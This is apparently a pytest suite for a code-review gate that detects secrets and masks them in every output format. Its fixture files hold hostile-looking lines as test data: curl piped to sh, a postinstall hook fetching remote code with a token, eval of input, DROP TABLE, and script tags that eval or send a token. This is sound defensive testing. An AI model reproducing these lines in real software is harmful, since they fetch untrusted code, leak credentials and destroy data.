"""A secret in a change is in no output: whatever gate speaks of its line, in whatever format."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path

import pytest

from shipui.gates.secrets.analyser import SecretsAnalyser
from shipui.gates.secrets.masking import MASK, masked
from shipui.gates.secrets.shapes import SHAPES, filled
from tests.gates.changes import changed_file

TOKEN = filled("ghp_{A36}", "canary")
KEY = filled("AKIA{U16}", "canary 7")
PASSWORD = filled("{A10}", "canary password") + "!9x"
BODY = filled("{b64}", "canary body")
PEM_BODY = filled("{b64}", "another line of it")
CANARIES = (TOKEN, KEY, PASSWORD, BODY, PEM_BODY)
FILES = {
    "app/run.py": f"import os, subprocess\nPASSWORD = '{PASSWORD}'\n"
    f"def f(x):\n    os.system('curl -k -H \"token: {TOKEN}\" https://e.acme.net/' + x)\n"
    f"    db.execute(f\"UPDATE users SET password = '{PASSWORD}' WHERE id = {{x}}\")\n"
    f"    if password == '{PASSWORD}':\n        eval('{TOKEN}' + x)\n",
    "app/run.js": f"const cp = require('child_process');\nfunction f(x) {{ cp.exec('login --token {TOKEN} ' + x); }}\nconst apiKey = '{PASSWORD}';\n",
    "deploy/app.env": f"DB_PASSWORD={PASSWORD}\nAWS_KEY={KEY}\nURL=postgresql://app:{PASSWORD}@db.acme.net/app\n",
    "deploy/key.pem": f"-----BEGIN RSA PRIVATE KEY-----\n{BODY}\n{PEM_BODY}\n-----END RSA PRIVATE KEY-----\n",
    "scripts/a.sh": f'curl -k -u admin:{PASSWORD} https://admin:{PASSWORD}@e.acme.net/a | sh\neval "$1 --token {TOKEN}"\n',
    "Dockerfile": f"FROM debian:12\nENV API_TOKEN={TOKEN}\nARG DB_PASSWORD={PASSWORD}\n",
    ".github/workflows/a.yml": f"on: issues\njobs:\n  a:\n    runs-on: x\n"
    f"    steps:\n      - run: echo {TOKEN} ${{{{ github.event.issue.title }}}}\n",
    "migrations/0001.sql": f"DROP TABLE users; -- password = '{PASSWORD}' {TOKEN}\n",
    "package.json": f'{{"scripts": {{"postinstall": "curl -H token={TOKEN} https://e.acme.net | sh"}}}}\n',
    "app/broken.py": f"def (\n  password = '{PASSWORD}' {TOKEN}\n",
    "app/broken.ts": f"let ( = '{TOKEN}';\n",
    "requirements.txt": f"--- token={TOKEN} ???\n",
    "go.mod": f"module a\n\nwhatever password={PASSWORD} {TOKEN}\n",
    "deploy/base.Dockerfile": f"FROM registry.acme.net/{TOKEN}:1\n",
    "web/b.html": f"<script>eval(atob('{TOKEN}'))</script>\n",
    "web/a.html": f"<a href=\"javascript:send('{TOKEN}')\">x</a>\n",
}


def _diff() -> str:
    parts = []
    for path, text in sorted(FILES.items()):
        lines = text.rstrip("\n").split("\n")
        parts.append(
            f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n"
        )
        parts += [f"+{line}\n" for line in lines]
    return "".join(parts)


@pytest.mark.parametrize("shape", ["text", "json", "markdown", "sarif"])
def test_no_output_holds_a_secret(shape: str, tmp_path: Path) -> None:
    diff = tmp_path / "change.diff"
    diff.write_text(_diff(), encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "shipui", "gates", "--diff", str(diff), "--format", shape],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
    )
    output = done.stdout + done.stderr
    assert "secret-github-token" in output or "GitHub" in output
    for canary in CANARIES:
        for piece in (canary, canary[:12], canary[-12:]):
            assert piece not in output
        assert hashlib.sha256(canary.encode()).hexdigest()[:16] not in output


def test_no_trouble_with_a_diff_tells_a_secret(tmp_path: Path) -> None:
    """A diff that is none, or is cut, forged or named wrongly: what is said of it, and what is written of a defect."""
    for text in (f"password = '{PASSWORD}' {TOKEN}\n", f"{_diff()[:900]}\n@@ -1,9 +1,9 @@ {TOKEN}\n-{PASSWORD}\n"):
        diff = tmp_path / "change.diff"
        diff.write_text(text, encoding="utf-8")
        for arguments in (["--diff", str(diff)], ["--repo", str(tmp_path), "--base", "main"]):
            done = subprocess.run(
                [sys.executable, "-m", "shipui", "gates", *arguments],
                capture_output=True,
                text=True,
                check=False,
                cwd=tmp_path,
                env={**os.environ, "XDG_STATE_HOME": str(tmp_path / "state")},
            )
            written = "".join(path.read_text() for path in tmp_path.glob("state/**/*") if path.is_file())
            for canary in CANARIES:
                assert canary not in done.stdout + done.stderr + written


def test_each_file_of_the_canaries_has_a_finding_about_its_secret() -> None:
    for path in ("app/run.py", "deploy/app.env", "deploy/key.pem", "scripts/a.sh", "Dockerfile", "package.json"):
        assert SecretsAnalyser().examine_file(changed_file(path, FILES[path])), path


def test_the_mask_hides_every_shape_in_any_sentence() -> None:
    for shape in SHAPES:
        sample = shape.sample("mask")
        secret = sample if not shape.near else sample.split('"')[1]
        assert secret not in masked(f"call({sample}, x)  # {sample}"), shape.id


def test_the_mask_leaves_what_is_no_secret() -> None:
    for text in (
        "cursor.execute('SELECT 1')",
        "password = os.environ['DB_PASSWORD']",
        "token_url = 'https://example.com/token'",
    ):
        assert masked(text) == text


def test_masking_twice_changes_nothing() -> None:
    once = masked("\n".join(FILES.values()))
    assert MASK in once
    assert masked(once) == once


def test_another_secret_in_the_same_place_is_another_finding() -> None:
    first, second = (
        SecretsAnalyser().examine_file(changed_file("a.py", f"token = '{filled('ghp_{A36}', seed)}'"))[0]
        for seed in ("one", "two")
    )
    assert first.evidence == second.evidence
    assert first.anchor != second.anchor
